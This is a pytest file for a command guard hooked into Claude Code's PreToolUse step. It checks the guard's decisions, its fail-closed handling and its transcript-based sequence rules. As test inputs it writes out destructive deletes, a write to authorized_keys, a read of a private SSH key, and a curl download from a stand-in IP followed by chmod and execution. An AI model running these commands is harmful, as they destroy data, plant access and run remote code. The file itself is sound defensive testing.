"""`convguard hook claude-code`: Claude Code's PreToolUse protocol, through the CLI runner and as
the real installed command in a subprocess.

The guard fails closed: whenever it cannot judge a call (a malformed event, a missing or invalid
scope file, a bad setting) it denies the call with exit 2 and the reason on stderr, which Claude
Code shows the model; only an operator's explicit fail-open turns that into exit 1 (non-blocking).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from convguard.cli import cli

INSTALLED = Path(sys.executable).with_name("convguard")


def _run(stdin: str, env: dict[str, str] | None = None, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, ["hook", "claude-code", *args], input=stdin, env=env)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.stdout, result.stderr


def _event(tool: str, tool_input: dict[str, object]) -> str:
    return json.dumps(
        {
            "session_id": "s1",
            "hook_event_name": "PreToolUse",
            "cwd": "/work/project",
            "tool_name": tool,
            "tool_input": tool_input,
        }
    )


def _clean_env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CONVGUARD_")}
    return {**env, **extra}


def _subprocess(
    command: list[str] | str, stdin: str, **env: str
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        command,
        input=stdin,
        capture_output=True,
        text=True,
        env=_clean_env(**env),
        shell=isinstance(command, str),
        timeout=60,
        check=False,
    )


@pytest.mark.parametrize(
    ("tool", "tool_input", "decision"),
    [
        ("Bash", {"command": "git status && pytest -q"}, "allow"),
        ("Bash", {"command": "rm -rf /"}, "deny"),
        ("Bash", {"command": "git push --force origin main"}, "ask"),
        (
            "Write",
            {"file_path": "/home/dev/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA"},
            "deny",
        ),
    ],
)
def test_decision_on_stdout_with_exit_zero(
    tool: str, tool_input: dict[str, object], decision: str
) -> None:
    code, out, _ = _run(_event(tool, tool_input))
    assert code == 0
    output = json.loads(out)["hookSpecificOutput"]
    assert output["hookEventName"] == "PreToolUse"
    assert output["permissionDecision"] == decision
    assert output["permissionDecisionReason"]


def test_defer_allow_gives_no_decision_for_allowed_calls() -> None:
    code, out, _ = _run(_event("Bash", {"command": "ls"}), None, "--defer-allow")
    assert (code, json.loads(out)) == (0, {})


def test_scope_file_from_the_environment(tmp_path: Path) -> None:
    scope = tmp_path / "scope.json"
    scope.write_text(json.dumps({"networks": ["10.0.0.0/24"]}))
    event = _event("Bash", {"command": "nmap -sV 10.0.0.5"})
    assert json.loads(_run(event)[1])["hookSpecificOutput"]["permissionDecision"] == "ask"
    _, out, _ = _run(event, {"CONVGUARD_AGENT_SCOPE": str(scope)})
    assert json.loads(out)["hookSpecificOutput"]["permissionDecision"] == "allow"


MALFORMED_EVENTS = [
    ("not json", "not JSON"),
    ("[1, 2]", "JSON object"),
    (json.dumps({"hook_event_name": "PreToolUse", "tool_input": {}}), "tool_name"),
    (
        json.dumps({"hook_event_name": "PostToolUse", "tool_name": "Bash", "tool_input": {}}),
        "PreToolUse",
    ),
    (json.dumps({"tool_name": "Bash", "tool_input": {"command": 3}}), "'command'"),
]


@pytest.mark.parametrize(("stdin", "message"), MALFORMED_EVENTS)
def test_a_malformed_event_is_denied_with_exit_2(stdin: str, message: str) -> None:
    code, out, err = _run(stdin)
    assert code == 2
    assert out == ""
    assert message in err
    assert "denied" in err and "--fail-open" in err


def _bad_scope(tmp_path: Path, kind: str) -> Path:
    path = tmp_path / "scope.yaml"
    if kind == "missing":
        return tmp_path / "none.yaml"
    path.write_text({"not_yaml": "hosts: [a\n", "bad_field": "hostz: [a.example]\n"}[kind])
    return path


@pytest.mark.parametrize("kind", ["missing", "not_yaml", "bad_field"])
def test_a_missing_or_invalid_scope_file_denies_every_call(tmp_path: Path, kind: str) -> None:
    scope = _bad_scope(tmp_path, kind)
    code, out, err = _run(_event("Bash", {"command": "ls"}), {"CONVGUARD_AGENT_SCOPE": str(scope)})
    assert (code, out) == (2, "")
    assert scope.name in err and "denied" in err


def test_an_invalid_setting_denies_the_call() -> None:
    code, out, err = _run(_event("Bash", {"command": "ls"}), {"CONVGUARD_HOOK_FAIL_OPEN": "maybe"})
    assert (code, out) == (2, "")
    assert "CONVGUARD_HOOK_FAIL_OPEN" in err and "'maybe'" in err


@pytest.mark.parametrize(
    ("args", "env"),
    [(("--fail-open",), {}), ((), {"CONVGUARD_HOOK_FAIL_OPEN": "true"})],
)
def test_fail_open_is_an_explicit_opt_in_that_exits_1(
    tmp_path: Path, args: tuple[str, ...], env: dict[str, str]
) -> None:
    scope = {"CONVGUARD_AGENT_SCOPE": str(tmp_path / "none.yaml")}
    code, out, err = _run(_event("Bash", {"command": "ls"}), {**scope, **env}, *args)
    assert (code, out) == (1, "")
    assert "none.yaml" in err and "fail-open" in err
    code, _, _ = _run("not json", env, *args)
    assert code == 1


def test_fail_open_still_denies_what_the_guard_judges_dangerous() -> None:
    code, out, _ = _run(_event("Bash", {"command": "rm -rf /"}), None, "--fail-open")
    assert code == 0
    assert json.loads(out)["hookSpecificOutput"]["permissionDecision"] == "deny"


@pytest.mark.slow
def test_the_installed_command_answers_claude_code_and_fails_closed(tmp_path: Path) -> None:
    assert INSTALLED.is_file(), f"{INSTALLED} is missing: run scripts/bootstrap.sh --dev"
    allowed = _subprocess(
        [str(INSTALLED), "hook", "claude-code"], _event("Bash", {"command": "ls"})
    )
    assert allowed.returncode == 0, allowed.stderr
    assert json.loads(allowed.stdout)["hookSpecificOutput"]["permissionDecision"] == "allow"

    denied = _subprocess(
        [str(INSTALLED), "hook", "claude-code"],
        _event("Bash", {"command": "ls"}),
        CONVGUARD_AGENT_SCOPE=str(tmp_path / "none.yaml"),
    )
    assert (denied.returncode, denied.stdout) == (2, "")
    assert "none.yaml" in denied.stderr


@pytest.mark.slow
def test_printed_settings_run_the_hook_by_absolute_path(tmp_path: Path) -> None:
    scope = tmp_path / "scope.json"
    scope.write_text(json.dumps({"networks": ["10.0.0.0/24"]}))
    printed = _subprocess(
        [str(INSTALLED), "hook", "claude-code", "--print-settings", "--defer-allow"],
        "",
        CONVGUARD_AGENT_SCOPE=str(scope),
    )
    assert printed.returncode == 0, printed.stderr
    (entry,) = json.loads(printed.stdout)["hooks"]["PreToolUse"]
    assert "Bash" in entry["matcher"].split("|")
    (command,) = entry["hooks"]
    assert command["type"] == "command"
    assert str(INSTALLED) in command["command"] and "--defer-allow" in command["command"]
    # Claude Code runs the command through a shell, from any folder, with a PATH of its own; the
    # printed command carries the scope, so a scan inside it passes (no decision: --defer-allow)
    # and one outside it asks.
    answers = []
    for target in ("10.0.0.5", "10.9.9.9"):
        result = subprocess.run(
            command["command"],
            shell=True,
            input=_event("Bash", {"command": f"nmap -sV {target}"}),
            capture_output=True,
            text=True,
            env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)},
            cwd=tmp_path,
            timeout=60,
            check=False,
        )
        assert result.returncode == 0, result.stderr
        answers.append(json.loads(result.stdout))
    assert answers[0] == {}
    assert answers[1]["hookSpecificOutput"]["permissionDecision"] == "ask"


def test_printed_settings_name_the_command_and_flags() -> None:
    code, out, _ = _run("", None, "--print-settings", "--fail-open")
    assert code == 0
    (entry,) = json.loads(out)["hooks"]["PreToolUse"]
    command = entry["hooks"][0]["command"]
    assert command.endswith("hook claude-code --fail-open")
    assert command.split()[0].startswith("/")


def test_the_reason_names_the_rules_that_fired() -> None:
    code, out, _ = _run(_event("Bash", {"command": "screencapture -x /tmp/s.png"}))
    reason = json.loads(out)["hookSpecificOutput"]["permissionDecisionReason"]
    assert code == 0 and "rules macos.takes-screenshot" in reason, reason


def _transcript(path: Path, commands: list[str]) -> Path:
    lines = [json.dumps({"type": "user", "message": {"role": "user", "content": "fix the build"}})]
    for i, command in enumerate(commands):
        block = {"type": "tool_use", "id": f"t{i}", "name": "Bash", "input": {"command": command}}
        lines.append(json.dumps({"type": "assistant", "message": {"content": [block]}}))
    lines.append('{"type": "assistant", "message": {"content": [{"type": "tex')  # cut off
    path.write_text("\n".join(lines) + "\n")
    return path


def test_the_session_transcript_lets_sequence_rules_see_earlier_calls(tmp_path: Path) -> None:
    transcript = _transcript(
        tmp_path / "session.jsonl",
        ["curl -sSo /tmp/upd https://203.0.113.9/upd", "ls", "chmod +x /tmp/upd"],
    )
    event = json.loads(_event("Bash", {"command": "/tmp/upd --quiet"}))
    alone = json.loads(_run(json.dumps(event))[1])["hookSpecificOutput"]
    event["transcript_path"] = str(transcript)
    chained = json.loads(_run(json.dumps(event))[1])["hookSpecificOutput"]
    assert alone["permissionDecision"] == "allow"
    assert chained["permissionDecision"] == "ask"
    assert "linux.sequence.fetch-chmod-run" in chained["permissionDecisionReason"]


def test_a_missing_transcript_only_means_no_history(tmp_path: Path) -> None:
    event = json.loads(_event("Bash", {"command": "git status"}))
    event["transcript_path"] = str(tmp_path / "gone.jsonl")
    code, out, _ = _run(json.dumps(event))
    assert code == 0 and json.loads(out)["hookSpecificOutput"]["permissionDecision"] == "allow"


@pytest.mark.parametrize("bad", ["\ud800.jsonl", "session\x00.jsonl", "", "/"])
def test_a_transcript_path_no_file_can_have_only_means_no_history(tmp_path: Path, bad: str) -> None:
    # A lone surrogate or a NUL cannot be in a file name: no history, the call is still judged
    # (it used to deny every call: "the guard cannot run: ValueError: embedded null byte").
    event = json.loads(_event("Bash", {"command": "git status"}))
    event["transcript_path"] = bad
    code, out, _ = _run(json.dumps(event))
    assert code == 0 and json.loads(out)["hookSpecificOutput"]["permissionDecision"] == "allow"


def _in(cwd: object, command: str) -> str:
    event = json.loads(_event("Bash", {"command": command}))
    event["cwd"] = cwd
    return json.dumps(event)


@pytest.mark.parametrize(
    ("cwd", "command", "decision"),
    [
        ("/home/dev", "rm -rf .", "deny"),  # the home itself
        ("/home/dev/project", "rm -rf ..", "deny"),
        ("/etc", "rm -rf .", "deny"),
        ("/home/dev/.ssh", "cat id_rsa", "ask"),
        ("/home/dev/project", "rm -rf build", "allow"),
        ("/home/dev/project", "rm -rf .", "ask"),  # the project: as before
        ("", "rm -rf .", "ask"),  # no working folder known: as before
        (None, "cat id_rsa", "allow"),
    ],
)
def test_the_events_working_folder_places_relative_paths(
    cwd: str | None, command: str, decision: str
) -> None:
    code, out, _ = _run(_in(cwd, command))
    output = json.loads(out)["hookSpecificOutput"]
    assert (code, output["permissionDecision"]) == (0, decision), output


def test_deleting_the_home_by_its_relative_path_names_the_rule() -> None:
    out = _run(_in("/home/dev", "find . -delete"))[1]
    reason = json.loads(out)["hookSpecificOutput"]["permissionDecisionReason"]
    assert "linux.recursive-delete-system-tree" in reason, reason


def test_a_relative_working_folder_is_a_malformed_event() -> None:
    code, out, err = _run(_in("project", "ls"))
    assert (code, out) == (2, "")
    assert "cwd" in err and "'project'" in err


@pytest.mark.slow
def test_the_installed_command_reads_the_working_folder() -> None:
    denied = _subprocess([str(INSTALLED), "hook", "claude-code"], _in("/home/dev", "rm -rf ./"))
    assert denied.returncode == 0, denied.stderr
    assert json.loads(denied.stdout)["hookSpecificOutput"]["permissionDecision"] == "deny"
